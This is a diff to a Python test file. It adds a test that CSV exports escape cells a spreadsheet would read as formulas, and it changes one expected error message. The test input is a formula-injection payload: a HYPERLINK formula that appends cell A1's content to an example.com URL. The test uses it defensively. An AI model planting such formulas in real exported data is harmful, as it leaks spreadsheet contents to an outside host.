@@ -78,10 +78,24 @@ def test_numbers_and_texts_in_one_column_become_json(tmp_path):
     assert column == ['"two"', "2"]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
+def test_no_spreadsheet_sees_a_formula_in_csv(tmp_path, start):
+    text = f'{start}HYPERLINK("http://example.com?x="&A1,"open")'
+    bad = cell("failed", error=text)
+    object.__setattr__(bad, "fields", {**bad.fields, text: text, "d": "-1.5e3"})
+    for suffix in ("csv", "parquet"):
+        write_table([bad], tmp_path / f"cells.{suffix}")
+    with (tmp_path / "cells.csv").open(newline="", encoding="utf-8") as file:
+        names, row = list(csv.reader(file))
+    assert text not in [*names, *row] and [*names, *row].count(f"'{text}") == 3
+    assert row[names.index("d")] == "-1.5e3"
+    assert pyarrow.parquet.read_table(tmp_path / "cells.parquet")["error"].to_pylist() == [text]
+
+
 def test_a_bad_path_is_refused_and_what_was_there_stays(cells, tmp_path):
     with pytest.raises(ValueError, match=r"must end in \.csv or \.parquet, got 'cells.xlsx'"):
         write_table(cells, tmp_path / "cells.xlsx")
-    with pytest.raises(ValueError, match="the folder of .* must exist"):
+    with pytest.raises(ValueError, match="must be in a folder that exists"):
         write_table(cells, tmp_path / "none" / "cells.csv")
     (tmp_path / "cells.csv").write_text("before")
     with pytest.raises(ValueError, match="at least one cell"):
